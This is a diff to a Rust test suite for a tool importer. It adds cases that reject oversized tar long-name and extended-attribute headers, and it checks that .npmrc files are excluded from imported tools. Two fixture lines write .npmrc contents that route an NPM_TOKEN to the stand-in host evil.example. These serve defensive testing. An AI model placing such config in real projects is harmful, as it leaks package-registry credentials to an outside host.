@@ -271,7 +271,7 @@ fn zips() -> Vec<Kind> {
 }
 
 fn tars() -> Vec<Kind> {
-    use tar::EntryType::{Block, Char, Fifo, Link, Regular, Symlink};
+    use tar::EntryType::{Block, Char, Fifo, GNULongName, Link, Regular, Symlink, XHeader};
     let hostile = "tool_source_hostile";
     let special = |kind, link| tar(b"x", kind, link, b"", 0);
     let zeros = vec![0; 51 << 20];
@@ -320,6 +320,18 @@ fn tars() -> Vec<Kind> {
             "tgz",
             tar(b"x", Regular, "", b"evil", 1 << 40),
             "tool_source_too_large",
+        ),
+        (
+            "a huge long name",
+            "tgz",
+            tar(b"x", GNULongName, "", &skipped[..1 << 20], 1 << 20),
+            hostile,
+        ),
+        (
+            "a huge list of attributes",
+            "tgz",
+            tar(b"x", XHeader, "", &skipped[..1 << 20], 1 << 20),
+            hostile,
         ),
         (
             "cut off",
@@ -414,6 +426,7 @@ fn the_same_tool_out_of_every_source_is_the_same() {
             entry("t-main/lib/a.js", b"export const a = 1;"),
             entry("t-main/node_modules/x/index.js", b"1"),
             entry("t-main/.env", b"KEY=theirs"),
+            entry("t-main/.npmrc", b"//evil.example/:_authToken=${NPM_TOKEN}"),
             entry("t-main/data/storage.json", b"{}"),
             entry("__MACOSX/t-main/._t.tool.js", b"1"),
         ]),
@@ -422,6 +435,7 @@ fn the_same_tool_out_of_every_source_is_the_same() {
     place.file("folder/lib/a.js", b"export const a = 1;");
     place.file("folder/.git/config", b"x");
     place.file("folder/run.log", b"x");
+    place.file("folder/.npmrc", b"registry=https://evil.example/${NPM_TOKEN}");
     let folder = place.dir.path().join("folder");
     let taken: Vec<_> = [&flat, &below, &folder]
         .map(|source| place.taken(source).unwrap())
@@ -433,8 +447,11 @@ fn the_same_tool_out_of_every_source_is_the_same() {
         assert_eq!(paths, ["lib/a.js", "t.tool.js"]);
     }
     assert_eq!(taken[0].left_out, [] as [&str; 0]);
-    assert_eq!(taken[1].left_out, [".env", "__MACOSX", "data", "node_modules"]);
-    assert_eq!(taken[2].left_out, [".git", "run.log"]);
+    assert_eq!(
+        taken[1].left_out,
+        [".env", ".npmrc", "__MACOSX", "data", "node_modules"]
+    );
+    assert_eq!(taken[2].left_out, [".git", ".npmrc", "run.log"]);
     let alone = place.taken(&place.file("t.tool.js", TOOL)).unwrap();
     assert_eq!(alone.files.len(), 1);
 }
